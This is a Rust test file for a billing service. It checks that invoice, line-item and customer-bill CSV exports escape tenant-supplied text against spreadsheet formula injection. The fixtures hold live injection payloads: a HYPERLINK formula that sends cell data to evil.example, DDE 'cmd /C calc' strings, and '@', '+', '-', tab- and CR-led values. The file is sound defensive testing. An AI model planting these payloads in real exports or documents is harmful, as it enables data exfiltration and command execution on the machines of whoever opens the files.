//! Every CSV Tally writes (finance's invoice and line exports, the
//! customer's bill) neutralises text a tenant chose against formula
//! injection: a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage
//! return gets a leading `'`. Amounts Tally formats itself stay numbers.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use chrono::{TimeZone, Utc};
use reqwest::StatusCode;
use rust_decimal_macros::dec;
use serde_json::json;
use support::server::Server;
use support::*;
use tally_domain::ProviderRef;
use tally_invoicing::apply_statements;
use tally_invoicing::lifecycle::finalize_sealed;

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"x")"#;

/// October 2026, finalized: acme's partner line is named by the partner (a
/// formula as SKU name, `+1` as unit, a tab-led second SKU name) from a
/// provider an admin named `@SUM(1)`; umbrella's invoice is voided by
/// finance with a reason starting with `-`.
async fn hostile_invoices(s: &Server) -> (String, String) {
    let evil = ProviderRef {
        name: "@SUM(1)".into(),
        ..dbco()
    };
    let mut first = line(&evil, "dbco.db.hour", dec!(2), dec!(0.20));
    first.description = HYPERLINK.into();
    first.unit = "+1".into();
    let mut second = line(&evil, "dbco.db.gb", dec!(1), dec!(1.00));
    second.description = "\tcmd|' /C calc'!A0".into();
    second.unit = "\r-1".into();
    second.price_id = 8;
    second.resource = Some(tally_domain::statement::ResourceRef {
        binding: tally_domain::BindingId::parse("bnd_1").unwrap(),
        name: "-1+prod".into(),
        plan: "PS-10".into(),
    });
    let mut acme = statement("acme", "2026-10", 1, vec![first, second]);
    acme.sealed = true;
    let mut umbrella = statement(
        "umbrella",
        "2026-10",
        1,
        vec![line(&cloud(), "cloud.vm", dec!(4), dec!(0.25))],
    );
    umbrella.sealed = true;
    apply_statements(&s.pool, &[acme, umbrella]).await.unwrap();
    let now = Utc.with_ymd_and_hms(2026, 11, 5, 0, 0, 0).unwrap();
    assert_eq!(
        finalize_sealed(&s.pool, "TLY", now, 10)
            .await
            .unwrap()
            .len(),
        2
    );
    let acme = s.invoice_id("acme").await;
    let umbrella = s.invoice_id("umbrella").await;
    let (status, body) = s
        .post(
            &format!("/v1/invoices/{umbrella}/void"),
            Some(&s.keys.finance),
            json!({"reason": "-2+3+cmd|' /C calc'!A0"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    (acme, umbrella)
}

#[tokio::test]
async fn tenant_text_in_every_csv_is_neutralised_against_formulas() {
    let s = Server::start().await;
    let (acme, umbrella) = hostile_invoices(&s).await;

    let invoices = s
        .text("/v1/exports/invoices.csv?period=2026-10", &s.keys.finance)
        .await;
    let rows: Vec<&str> = invoices.lines().collect();
    assert_eq!(rows.len(), 3, "{invoices}");
    assert!(rows[2].ends_with(",'-2+3+cmd|' /C calc'!A0"), "{invoices}");
    assert!(
        rows[2].starts_with(&format!(
            "{umbrella},TLY-2026-000002,umbrella,2026-10-01T00:00:00+00:00,2026-11-01T00:00:00+00:00,void,USD,1.00,0.00,1.00,0.00,"
        )),
        "{invoices}"
    );

    let lines = s
        .text(
            "/v1/exports/invoice-lines.csv?period=2026-10",
            &s.keys.finance,
        )
        .await;
    let rows: Vec<&str> = lines.lines().collect();
    assert_eq!(rows.len(), 4, "{lines}");
    assert_eq!(
        rows[1],
        format!(
            r#"{acme},TLY-2026-000001,acme,finalized,USD,0,usage,dbco,dbco.db.hour,"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",2,'+1,0.20,0.40,0.40,0.00,0.40,0.00,0.00,,7,,,"#
        ),
        "{lines}"
    );
    assert_eq!(
        rows[2],
        format!(
            "{acme},TLY-2026-000001,acme,finalized,USD,1,usage,dbco,dbco.db.gb,'\tcmd|' /C calc'!A0,1,\"'\r-1\",1.00,1.00,1.00,0.00,1.00,0.00,0.00,,8,,bnd_1,'-1+prod · PS-10"
        ),
        "{lines}"
    );

    let bill = s
        .text("/accounts/acme/bill.csv?period=2026-10", &s.keys.acme)
        .await;
    assert_eq!(
        bill,
        [
            "account_id,period,invoice_number,status,currency,provider_id,provider_name,sku,description,quantity,unit,unit_price,amount,resource,binding_id,before_discount,discount,discount_funded_by",
            r#"acme,2026-10,TLY-2026-000001,finalized,USD,dbco,'@SUM(1),dbco.db.hour,"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",2,'+1,0.20,0.40,,,0.40,0.00,"#,
            "acme,2026-10,TLY-2026-000001,finalized,USD,dbco,'@SUM(1),dbco.db.gb,'\tcmd|' /C calc'!A0,1,\"'\r-1\",1.00,1.00,'-1+prod · PS-10,bnd_1,1.00,0.00,",
            "acme,2026-10,TLY-2026-000001,finalized,USD,,,,total,,,,1.40,,,,,",
            "",
        ]
        .join("\n"),
    );
}

/// A draft's lines are exported numbered 0, 1, … in their order, as a
/// finalized invoice's are, though invoicing stores them with room between
/// (so that a new line lands among them without moving the others).
#[tokio::test]
async fn a_drafts_lines_are_exported_numbered_from_zero() {
    let s = Server::start().await;
    let draft = statement(
        "acme",
        "2026-11",
        1,
        vec![
            line(&cloud(), "cloud.vm", dec!(4), dec!(0.25)),
            line(&cloud(), "cloud.disk", dec!(1), dec!(1.10)),
        ],
    );
    apply_statements(&s.pool, &[draft]).await.unwrap();
    let lines = s
        .text(
            "/v1/exports/invoice-lines.csv?period=2026-11",
            &s.keys.finance,
        )
        .await;
    let cells: Vec<(&str, &str)> = lines
        .lines()
        .skip(1)
        .map(|row| {
            let cells: Vec<&str> = row.split(',').collect();
            (cells[5], cells[8])
        })
        .collect();
    assert_eq!(cells, [("0", "cloud.vm"), ("1", "cloud.disk")], "{lines}");
}
